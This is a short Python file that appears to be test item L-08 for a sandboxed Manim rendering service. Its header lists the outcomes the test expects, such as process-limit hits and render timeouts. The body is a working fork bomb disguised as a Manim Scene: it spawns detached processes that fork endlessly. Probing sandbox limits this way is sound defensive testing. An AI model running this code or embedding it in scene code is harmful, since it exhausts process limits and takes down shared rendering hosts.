# attack: L-08
# what: Fork as fast as possible while the box is taken down.
# layer: control group
# static: rejected
# class: RENDERED LIMIT_PROCESSES OUTPUT_MISSING RENDER_TIMEOUT CODE_ERROR
import os

from manim import *


class Attack(Scene):
    def construct(self):
        for _ in range(8):
            if os.fork() == 0:
                os.setsid()
                while True:
                    try:
                        if os.fork() == 0:
                            os._exit(0)
                        os.waitpid(-1, os.WNOHANG)
                    except OSError:
                        pass
        self.wait(0.2)
